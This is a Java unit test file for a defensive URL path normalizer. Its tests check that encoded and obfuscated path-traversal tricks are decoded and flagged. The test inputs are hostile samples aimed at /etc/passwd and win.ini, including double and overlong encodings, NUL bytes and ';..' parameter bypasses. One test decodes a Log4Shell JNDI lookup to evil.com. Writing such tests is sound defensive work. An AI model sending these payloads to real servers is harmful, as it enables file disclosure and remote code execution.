package dev.bulwark.core.internal.decode;

import static dev.bulwark.core.DecodingFlag.BACKSLASH_IN_PATH;
import static dev.bulwark.core.DecodingFlag.DOT_SEGMENTS;
import static dev.bulwark.core.DecodingFlag.EMPTY_SEGMENTS;
import static dev.bulwark.core.DecodingFlag.MULTIPLE_ENCODING;
import static dev.bulwark.core.DecodingFlag.NUL_BYTE;
import static dev.bulwark.core.DecodingFlag.OVERLONG_UTF8;
import static dev.bulwark.core.DecodingFlag.PATH_ABOVE_ROOT;
import static dev.bulwark.core.DecodingFlag.PERCENT_U_ENCODING;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.bulwark.core.internal.decode.PathNormalizer.NormalizedPath;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;

class PathNormalizerTest {

    private final PathNormalizer normalizer = new PathNormalizer(new PercentDecoder(3));

    @Test
    void leavesACleanPathAlone() {
        NormalizedPath path = normalizer.normalize("/api/v1/orders");

        assertThat(path.path()).isEqualTo("/api/v1/orders");
        assertThat(path.segments()).containsExactly("api", "v1", "orders");
        assertThat(path.flags()).isEmpty();
    }

    @Test
    void normalisesPlainPathsAsTheFullResolutionDoes() {
        for (String raw : List.of("/", "/api/v1/orders", "/a/b/", "/.well-known/openid-configuration", "/a.b/c..d/...",
                "/files/report-2024_v1~draft(1).pdf", "/search+this/a:b@c!$&'*,=", "/x/.y/..z")) {
            assertThat(normalizer.normalize(raw)).as(raw).isEqualTo(normalizer.resolve(raw));
        }
    }

    @Test
    void keepsTheRootAndATrailingSlash() {
        assertThat(normalizer.normalize("/").path()).isEqualTo("/");
        assertThat(normalizer.normalize("/").segments()).isEmpty();
        assertThat(normalizer.normalize("/a/b/").path()).isEqualTo("/a/b/");
        assertThat(normalizer.normalize("/a/b/").segments()).containsExactly("a", "b");
        assertThat(normalizer.normalize("/a/b/").flags()).isEmpty();
    }

    @Test
    void removesDotSegmentsAsRfc3986Does() {
        NormalizedPath path = normalizer.normalize("/a/b/c/./../../g");

        assertThat(path.path()).isEqualTo("/a/g");
        assertThat(path.flags()).containsExactly(DOT_SEGMENTS);
    }

    @Test
    void keepsADirectoryWhenTheLastSegmentIsADotSegment() {
        assertThat(normalizer.normalize("/a/b/..").path()).isEqualTo("/a/");
        assertThat(normalizer.normalize("/a/b/.").path()).isEqualTo("/a/b/");
    }

    @Test
    void flagsClimbingAboveTheRoot() {
        NormalizedPath path = normalizer.normalize("/../../etc/passwd");

        assertThat(path.path()).isEqualTo("/etc/passwd");
        assertThat(path.flags()).containsExactlyInAnyOrder(DOT_SEGMENTS, PATH_ABOVE_ROOT);
    }

    @Test
    void decodesEncodedTraversalBeforeRemovingDotSegments() {
        NormalizedPath path = normalizer.normalize("/static/%2e%2e/%2E%2E%2fetc/passwd");

        assertThat(path.path()).isEqualTo("/etc/passwd");
        assertThat(path.flags()).containsExactlyInAnyOrder(DOT_SEGMENTS, PATH_ABOVE_ROOT);
    }

    @Test
    void decodesDoublyEncodedTraversal() {
        NormalizedPath path = normalizer.normalize("/files/%252e%252e%252f%252e%252e%252fetc/passwd");

        assertThat(path.path()).isEqualTo("/etc/passwd");
        assertThat(path.flags()).contains(MULTIPLE_ENCODING, DOT_SEGMENTS, PATH_ABOVE_ROOT);
    }

    @Test
    void decodesIisPercentUTraversal() {
        NormalizedPath path = normalizer.normalize("/a/%u002e%u002e/b");

        assertThat(path.path()).isEqualTo("/b");
        assertThat(path.flags()).contains(PERCENT_U_ENCODING, DOT_SEGMENTS);
    }

    @Test
    void neverTurnsOverlongSlashIntoASeparator() {
        NormalizedPath path = normalizer.normalize("/a/..%c0%af..%c0%afetc/passwd");

        assertThat(path.segments()).containsExactly("a", "..\uFFFD..\uFFFDetc", "passwd");
        assertThat(path.flags()).contains(OVERLONG_UTF8).doesNotContain(DOT_SEGMENTS);
    }

    @Test
    void readsBackslashAsSlash() {
        NormalizedPath path = normalizer.normalize("/a\\..\\..\\windows%5cwin.ini");

        assertThat(path.path()).isEqualTo("/windows/win.ini");
        assertThat(path.flags()).contains(BACKSLASH_IN_PATH, DOT_SEGMENTS, PATH_ABOVE_ROOT);
    }

    @Test
    void collapsesEmptySegments() {
        NormalizedPath path = normalizer.normalize("//admin///users");

        assertThat(path.path()).isEqualTo("/admin/users");
        assertThat(path.segments()).containsExactly("admin", "users");
        assertThat(path.flags()).containsExactly(EMPTY_SEGMENTS);
    }

    @Test
    void keepsPathParametersInTheSegment() {
        NormalizedPath path = normalizer.normalize("/shop;jsessionid=ABC/cart;v=1");

        assertThat(path.path()).isEqualTo("/shop;jsessionid=ABC/cart;v=1");
        assertThat(path.segments()).containsExactly("shop;jsessionid=ABC", "cart;v=1");
        assertThat(path.flags()).isEmpty();
    }

    @Test
    void treatsDotDotWithPathParametersAsADotSegment() {
        NormalizedPath path = normalizer.normalize("/public/..;/admin/.;x=1/panel");

        assertThat(path.path()).isEqualTo("/admin/panel");
        assertThat(path.flags()).containsExactly(DOT_SEGMENTS);
    }

    @Test
    void doesNotTreatThreeDotsAsADotSegment() {
        assertThat(normalizer.normalize("/a/.../b").path()).isEqualTo("/a/.../b");
    }

    @Test
    void keepsAnEncodedNulInTheSegmentAndFlagsIt() {
        NormalizedPath path = normalizer.normalize("/download/report.pdf%00.html");

        assertThat(path.segments()).containsExactly("download", "report.pdf\0.html");
        assertThat(path.flags()).containsExactly(NUL_BYTE);
    }

    @Test
    void givesAPathWithoutLeadingSlashOne() {
        assertThat(normalizer.normalize("a/b").path()).isEqualTo("/a/b");
        assertThat(normalizer.normalize("").path()).isEqualTo("/");
    }

    @Test
    void normalisesAdversarialMegabytePathsInLinearTime() {
        int size = 1 << 20;
        String[] inputs = {"/..".repeat(size / 3), "/a".repeat(size / 2) + "/..".repeat(size / 6), "/".repeat(size)};
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> {
            for (String input : inputs) {
                assertThat(normalizer.normalize(input).path()).startsWith("/");
            }
        });
    }
    @Test
    void cutsPathParametersFromEverySegmentOfTheRoutingPath() {
        assertThat(normalizer.normalize("/admin;x/y").routingPath()).isEqualTo("/admin/y");
        assertThat(normalizer.normalize("/a;b=c/d;jsessionid=1").routingPath()).isEqualTo("/a/d");
    }

    @Test
    void keepsPathParametersInTheInspectedPath() {
        assertThat(normalizer.normalize("/admin;x/y").path()).isEqualTo("/admin;x/y");
    }

    @Test
    void listsTheParametersOfEverySegmentDecoded() {
        NormalizedPath path = normalizer.normalize("/a;one/b/c;two%3Dthree");

        assertThat(path.parameters()).extracting(PathNormalizer.PathParameter::segment, PathNormalizer.PathParameter::decoded)
                .containsExactly(tuple(0, "one"), tuple(2, "two=three"));
    }

    @Test
    void listsTheParametersOfDroppedDotSegments() {
        NormalizedPath path = normalizer.normalize("/t/..;%24%7Bjndi:ldap:%2F%2Fevil.com%2Fa%7D/y");

        assertThat(path.routingPath()).isEqualTo("/y");
        assertThat(path.parameters()).singleElement().satisfies(parameter -> {
            assertThat(parameter.segment()).isEqualTo(1);
            assertThat(parameter.decoded()).isEqualTo("${jndi:ldap://evil.com/a}");
        });
    }

    @Test
    void resolvesDotSegmentsAndCollapsesEmptySegmentsInTheRoutingPath() {
        assertThat(normalizer.normalize("/account/x/../admin/y").routingPath()).isEqualTo("/account/admin/y");
        assertThat(normalizer.normalize("/admin//x").routingPath()).isEqualTo("/admin/x");
        assertThat(normalizer.normalize("/admin/./x/").routingPath()).isEqualTo("/admin/x/");
    }

    @Test
    void decodesTheRoutingPathOnceAsContainersDo() {
        NormalizedPath path = normalizer.normalize("/a/%252e%252e/b");

        assertThat(path.routingPath()).isEqualTo("/a/%2e%2e/b");
        assertThat(path.suspicious()).isNull();
    }

    @Test
    void readsAnEncodedSemicolonAsPartOfTheSegmentName() {
        NormalizedPath path = normalizer.normalize("/a%3Bb/c");

        assertThat(path.routingPath()).isEqualTo("/a;b/c");
        assertThat(path.parameters()).isEmpty();
    }

    @Test
    void findsNothingSuspiciousInOrdinaryPathParameters() {
        assertThat(normalizer.normalize("/shop/cart;jsessionid=ABC/items").suspicious()).isNull();
    }

    @Test
    void findsTheSequencesServlet6RejectsSuspicious() {
        assertThat(normalizer.normalize("/a%2Fb").suspicious()).isEqualTo(SuspiciousPath.ENCODED_SLASH);
        assertThat(normalizer.normalize("/a%5Cb").suspicious()).isEqualTo(SuspiciousPath.BACKSLASH);
        assertThat(normalizer.normalize("/a\\b").suspicious()).isEqualTo(SuspiciousPath.BACKSLASH);
        assertThat(normalizer.normalize("/a%00b").suspicious()).isEqualTo(SuspiciousPath.CONTROL_CHARACTER);
        assertThat(normalizer.normalize("/a/%2e%2e/b").suspicious()).isEqualTo(SuspiciousPath.ENCODED_DOT_SEGMENT);
        assertThat(normalizer.normalize("/a/.%2E/b").suspicious()).isEqualTo(SuspiciousPath.ENCODED_DOT_SEGMENT);
        assertThat(normalizer.normalize("/a/.;x/b").suspicious()).isEqualTo(SuspiciousPath.DOT_SEGMENT_WITH_PARAMETERS);
        assertThat(normalizer.normalize("/a/..;/b").suspicious()).isEqualTo(SuspiciousPath.DOT_SEGMENT_WITH_PARAMETERS);
        assertThat(normalizer.normalize("/a//../b").suspicious()).isEqualTo(SuspiciousPath.DOT_DOT_AFTER_EMPTY_SEGMENT);
        assertThat(normalizer.normalize("/a/../../b").suspicious()).isEqualTo(SuspiciousPath.ABOVE_ROOT);
    }

    @Test
    void routesAdversarialMegabytePathsInLinearTime() {
        int size = 1 << 20;
        String[] inputs = {";".repeat(size), "/a;".repeat(size / 3), "/..;x".repeat(size / 5)};
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> {
            for (String input : inputs) {
                assertThat(normalizer.normalize(input).routingPath()).startsWith("/");
            }
        });
    }
}
